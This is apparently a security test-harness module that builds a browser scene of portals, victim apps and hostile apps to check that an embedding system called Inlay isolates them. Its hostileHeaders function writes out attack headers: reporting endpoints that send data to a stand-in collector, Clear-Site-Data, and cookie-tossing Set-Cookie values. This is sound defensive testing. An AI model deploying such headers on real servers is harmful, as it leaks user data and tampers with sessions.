// One cell: a browser, Inlay, two portals, a stranger, and four apps on origins of their own. V and U are victims, H and HU
// hostile; U and HU have servers of their own.
import fs from "node:fs";
import { agent } from "../lib/agent.mjs";
import { makeCertificate } from "../lib/certificate.mjs";
import { eventually } from "../lib/eventually.mjs";
import { Portal } from "../lib/portal.mjs";
import { Server, freePort, freshFolder } from "../lib/server.mjs";
import { close, listen, upstreamWorld } from "../lib/upstream.mjs";
import { makeWorld, unique } from "../lib/world.mjs";
import { browsers } from "./browsers.mjs";
import { settings } from "./settings.mjs";

const names = ["customer.example", "partner.example", "vendor.example", "apps.vendor.example", "github.io"];

/** What the apps have, so that an attack can be tried on its own origin, too. */
export const files = (masters) => ({
    "index.html": `<!doctype html><title>App</title><link rel="icon" href="data:,">${agent(masters)}<p id="secret">SECRET</p>`,
    "second.html": `<!doctype html><title>Second</title><link rel="icon" href="data:,">${agent(masters)}<p>SECOND</p>`,
    "secret.txt": "SECRET",
    "secret.js": 'globalThis.stolen = "SECRET";\n',
    "module.js": 'export default "SECRET";\n',
    "secret.css": "body { --stolen: SECRET }\n",
    "secret.svg": '<svg xmlns="http://www.w3.org/2000/svg" width="7" height="7"/>',
    "worker.js": 'postMessage?.("SECRET"); globalThis.stolen = "SECRET";\n',
    "shared.js":
        "onconnect = ({ ports: [port] }) => { globalThis.kept ??= []; port.onmessage = ({ data }) => { kept.push(data); port.postMessage(kept); }; };\n",
});

const TYPES = { html: "text/html", txt: "text/plain", js: "text/javascript", css: "text/css", svg: "image/svg+xml" };

/** A server of an app: its requests, and what it adds to each answer. */
async function startBackend(content, headers = () => ({})) {
    const requests = [];
    const server = await listen((incoming, response) => {
        const { pathname, searchParams } = new URL(incoming.url, "http://x");
        requests.push({ method: incoming.method, url: incoming.url, headers: incoming.headers });
        if (pathname === "/events") {
            response.writeHead(200, { "Content-Type": "text/event-stream" }).write("data: SECRET\n\n");
            return;
        }
        const set = searchParams.getAll("set");
        const name = pathname === "/" ? "index.html" : pathname.slice(1);
        response.writeHead(content[name] === undefined ? 404 : 200, {
            "Content-Type": TYPES[name.split(".").at(-1)] ?? "text/plain",
            ...(set.length > 0 && { "Set-Cookie": set }),
            ...headers(incoming),
        });
        response.end(content[name] ?? pathname);
    });
    return { server, requests, url: `http://127.0.0.1:${server.address().port}` };
}

export class Scene {
    /** @param {keyof typeof browsers} browser @param {keyof typeof settings} setting */
    static async start(browser, setting) {
        const scene = new Scene();
        scene.setting = setting;
        scene.cell = `${browser}, ${setting}`;
        scene.place = settings[setting];
        await scene.open(browser);
        return scene;
    }

    async open(browser) {
        const { place } = this;
        this.folder = freshFolder();
        this.certificate = makeCertificate(this.folder, [...names.map((name) => `*.${name}`), "stranger.example.net"]);
        const start = (host) => new Portal(host, this.certificate).start();
        const port = await freePort();
        this.consoleUrl = `https://${place.console}:${port}`;
        this.server = new Server({
            public_url: this.consoleUrl,
            app_url: `https://*.${place.apps}:${port}`,
            tls_certificate: this.certificate.certificateFile,
            tls_key: this.certificate.keyFile,
        });
        this.server.port = port;
        [this.browser, this.portal, this.portal2, this.stranger] = await Promise.all([
            browsers[browser]({ trusted: [this.certificate.hash], allowsThirdParties: place.allowsThirdParties }),
            start(place.portal),
            start(place.portal2),
            start("stranger.example.net"),
            this.server.start(),
        ]);
        const portals = [this.portal.origin, this.portal2.origin];
        this.masters = [...portals, this.stranger.origin];
        const content = files(this.masters);
        const bundle = Object.entries(content).map(([path, text]) => ({ path, content: text }));
        this.u = await startBackend(content);
        this.hu = await startBackend(content, (incoming) => this.hostileHeaders(incoming));
        const upstream = async ({ url }) => {
            const world = await upstreamWorld(this.server, { url });
            await world.api.patch(`/apps/${world.app.id}`, { portals });
            return world;
        };
        this.worlds = {
            V: await makeWorld(this.server, { portals, bundle }),
            U: await upstream(this.u),
            H: await makeWorld(this.server, { portals, bundle }),
            HU: await upstream(this.hu),
        };
        this.collected = [];
        this.stranger.pages.set("/report", (request, response) => {
            let text = "";
            request.on("data", (part) => (text += part));
            request.on("end", () => this.collected.push(`${request.method} ${text}`));
            response.writeHead(200, {
                "Access-Control-Allow-Origin": "*",
                "Access-Control-Allow-Headers": "*",
            });
            response.end();
        });
        this.people = unique("p");
        await this.browser.fresh();
    }

    /** What the hostile server says about each of its answers. */
    hostileHeaders({ headers }) {
        const { apps } = this.place;
        const report = `${this.stranger.origin}/report`;
        return {
            NEL: '{"report_to":"n","max_age":31536000,"include_subdomains":true,"success_fraction":1,"failure_fraction":1}',
            "Report-To": `{"group":"n","max_age":31536000,"endpoints":[{"url":"${report}"}]}`,
            "Reporting-Endpoints": `n="${report}"`,
            "Origin-Agent-Cluster": "?0",
            "Clear-Site-Data": '"cookies", "storage"',
            "Access-Control-Allow-Origin": "*",
            "Referrer-Policy": "unsafe-url",
            "Alt-Svc": 'h2="stranger.example.net:443"',
            "Set-Cookie": [
                `tossed=EVIL; Path=/; Secure; SameSite=None; Domain=${apps}`,
                `__Host-inlay=EVIL; Path=/; Secure; SameSite=None; Partitioned`,
                `__Host-inlay=EVIL; Path=/; Secure; SameSite=None; Domain=${apps}`,
            ],
            ...(headers["x-seen"] && { "X-Seen": "1" }),
        };
    }

    /** People of other attacks have other origins. */
    renewPeople() {
        this.people = unique("p");
        this.shown = undefined;
    }

    async fresh() {
        this.renewPeople();
        await this.browser.fresh();
    }

    /** @param {"V" | "U" | "H" | "HU"} app */
    link(app, more = {}) {
        return this.worlds[app].embedLink({ externalIdentifier: `${this.people}-${app}`, ...more });
    }

    /** A page of ours. */
    page(content, portal = this.portal, head = "") {
        return portal.add(`<!doctype html><title>Portal</title>${head}${agent(this.masters)}<body>${content}`);
    }

    frames(urls, more = "") {
        return urls
            .map((url) => `<iframe src="${url.replaceAll("&", "&amp;")}" width="220" height="200" ${more}></iframe>`)
            .join("");
    }

    /** A page with these apps, each by a new link. Gives back their origins. */
    async show(apps, { portal = this.portal, more = "" } = {}) {
        const links = [];
        for (const app of apps) {
            links.push(await this.link(app));
        }
        this.address = this.page(this.frames(links, more), portal);
        await this.browser.goto(this.address);
        const origins = [];
        for (const i of apps.keys()) {
            origins.push(await this.answers(i));
        }
        return origins;
    }

    /** The four apps, on one page that attacks share which leave it as it was. */
    async stage() {
        if (this.shown === undefined || this.shown.address !== this.address || (await this.isGone())) {
            const [H, V, U, HU] = await this.show(["H", "V", "U", "HU"]);
            this.shown = { H, V, U, HU, address: this.address };
        }
        return this.shown;
    }

    /** Whether something has ended a session of the stage. */
    async isGone() {
        return !(await this.works(0).catch(() => false)) || !(await this.works(1).catch(() => false));
    }

    run(fn, ...args) {
        return this.browser.run(fn, ...args);
    }

    /** Runs a function in a frame: by its number, or its numbers from the top. */
    in(at, fn, ...args) {
        return this.run(
            (path, code, list) => {
                let frame = window;
                for (const index of path) {
                    frame = frame.frames[index];
                }
                return window.ask(frame, code, list);
            },
            [at].flat(),
            String(fn),
            args,
        );
    }

    /** Waits until a page of ours is in a frame, and gives back its origin. */
    answers(at, ms = 20_000) {
        return eventually(
            `a page of ours in frame ${at}`,
            () =>
                this.run((path) => {
                    let frame = window;
                    for (const index of path) {
                        frame = frame.frames[index];
                    }
                    return frame && window.ask(frame, "() => location.origin", [], 500).catch(() => null);
                }, [at].flat()),
            ms,
        );
    }

    /** Whether the app in a frame has its session. */
    works(at) {
        return this.in(at, async () => {
            const answer = await fetch("/_inlay/session").catch(() => undefined);
            return answer?.status === 200;
        });
    }

    /** Whether a new link opens V in a page of the portal. */
    async opens(app = "V", portal = this.portal) {
        await this.browser.goto(this.page(this.frames([await this.link(app)]), portal));
        return this.answers(0, 8000).then(
            () => this.works(0),
            () => false,
        );
    }

    heard() {
        return this.run(() => window.heard);
    }

    /** Clicks into a frame of the page, whose armed() runs then. */
    async click(at, fn, ...args) {
        await this.in(
            at,
            (code, list) => {
                window.armed = () => {
                    window.armed = undefined;
                    window.result = (0, eval)(`(${code})`)(...list);
                };
            },
            String(fn),
            args,
        );
        await this.browser.click(at);
    }

    /** Ends the sessions of a user of an app. */
    async revoke(app) {
        const {
            api,
            app: { id },
        } = this.worlds[app];
        for (const session of await api.all("/sessions", { appId: id, status: "active" })) {
            await api.delete(`/sessions/${session.id}`);
        }
    }

    async close() {
        await this.browser?.close();
        for (const portal of [this.portal, this.portal2, this.stranger]) {
            portal?.close();
        }
        close(this.u.server);
        close(this.hu.server);
        await this.server?.discard();
        fs.rmSync(this.folder, { recursive: true, force: true });
    }
}
